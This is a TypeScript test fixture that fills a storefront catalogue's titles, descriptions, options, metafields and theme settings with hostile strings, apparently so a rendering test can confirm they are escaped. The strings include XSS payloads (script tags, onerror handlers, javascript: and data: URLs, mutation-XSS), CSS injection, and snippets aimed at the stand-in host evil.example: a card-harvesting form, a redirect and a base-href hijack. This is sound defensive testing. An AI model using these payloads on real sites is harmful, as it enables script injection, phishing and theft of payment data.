/**
 * A catalogue whose every text tries to break out of where it is shown: tags, handlers, script
 * URLs, ends of JSON-LD blocks, CSS, template syntax, and the line separators that JSON
 * allows and old JavaScript does not.
 */
import {createClubCatalogue, homeCollectionId} from '..';
import type {Catalogue, MetaobjectData, ProductData} from '@quillhaven/local-store';
import {plainProduct, plainVariant} from './plain-product';

/** Runs `window.__hacked` where it is taken for markup; a test looks whether it did. */
const run = 'window.__hacked=1';

/** A short attack, for titles and names. */
export const hostileText = `"'><img src=x onerror=${run}>`;

/** Everything at once, for descriptions and bodies. */
export const hostileHtml = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg><script>${run}</script></svg><svg onload="${run}">`,
  `<a href="javascript:${run}">a link</a>`,
  `<a href="java&#x09;script:${run}">another</a>`,
  `<a href="data:text/html,<script>${run}</script>">a third</a>`,
  `<iframe src="https://evil.example" srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<form action="https://evil.example"><input name="card"><button>Pay</button></form>`,
  `<style>body{display:none}</style><link rel=stylesheet href="https://evil.example/x.css">`,
  `<p style="position:fixed;inset:0;background:url(https://evil.example/pixel)">covered</p>`,
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  '<p>Line\u2028separators\u2029and {{template}} ${syntax} <!-- <p>comment --></p>',
  '<p>What may be shown: <strong>this</strong>.</p>',
].join('\n');

/** A product with an attack in each of its texts, its handle apart, which is part of a URL. */
export function hostileProduct(number: number): ProductData {
  const image = plainProduct(number).images.map((one) => ({
    ...one,
    altText: hostileText,
  }));
  return plainProduct(number, {
    handle: 'hostile',
    title: `Hostile ${hostileText}</title></script>`,
    vendor: hostileText,
    productType: `T-Shirt`,
    tags: [hostileText, 'test'],
    descriptionHtml: hostileHtml,
    images: image,
    options: [
      {name: 'Size', values: [{name: `S ${hostileText}`}, {name: 'M'}]},
      {
        name: `Print ${hostileText}`,
        values: [{name: `A ${hostileText}`, swatch: 'red;}*{display:none'}, {name: 'B'}],
      },
    ],
    variants: [`S ${hostileText}`, 'M'].flatMap((size, row) =>
      [`A ${hostileText}`, 'B'].map((print, column) =>
        plainVariant(number, row * 2 + column, {
          optionValues: [size, print],
          sku: hostileText,
        }),
      ),
    ),
    seo: {title: `${hostileText}</title>`, description: hostileHtml},
    metafields: [
      {namespace: 'reviews', key: 'rating', type: 'rating', value: `{"value":"${run}"}`},
      {
        namespace: 'reviews',
        key: 'rating_count',
        type: 'number_integer',
        value: '</script>',
      },
    ],
  });
}

const attacks: Record<string, string> = {
  accent_color: 'red;}body{display:none}',
  border_radius: '8px;}*{all:unset',
  font: 'Inter;src:url(https://evil.example/font)',
  footer_links: `[{"title":"${'<b>'}","links":[{"title":"x","url":"javascript:${run}"}]}]`,
  social_links: '{"not":"a list"',
  show_rating: 'maybe',
};

function hostileTheme(theme: MetaobjectData): MetaobjectData {
  const fields = theme.fields.map((field) => ({
    ...field,
    value: attacks[field.key] ?? hostileText,
  }));
  return {...theme, fields};
}

/** The club's catalogue with hostile texts throughout; one hostile product and three of the club's. */
export function createHostileCatalogue(startInstant: Date): Catalogue {
  const club = createClubCatalogue(startInstant);
  const products = [hostileProduct(1), ...club.products.slice(0, 3)];
  const written = {title: `Title ${hostileText}`, body: hostileHtml};
  return {
    ...club,
    shop: {
      ...club.shop,
      name: `Herons ${hostileText}`,
      description: hostileHtml,
      brand: {...club.shop.brand, slogan: hostileText, shortDescription: hostileHtml},
    },
    products,
    collections: [
      {
        id: homeCollectionId,
        handle: 'latest',
        title: `Latest ${hostileText}`,
        descriptionHtml: hostileHtml,
        productIds: products.map(({id}) => id),
        updatedAt: '2026-01-05T08:00:00Z',
      },
    ],
    menus: club.menus.map((menu) => ({
      ...menu,
      items: [
        {title: hostileText, url: `/products/hostile?${encodeURIComponent(hostileText)}`},
      ],
    })),
    metaobjects: club.metaobjects.map(hostileTheme),
    pages: club.pages.map((page) => ({...page, ...written})),
    policies: club.policies.map((policy) => ({...policy, ...written})),
  };
}
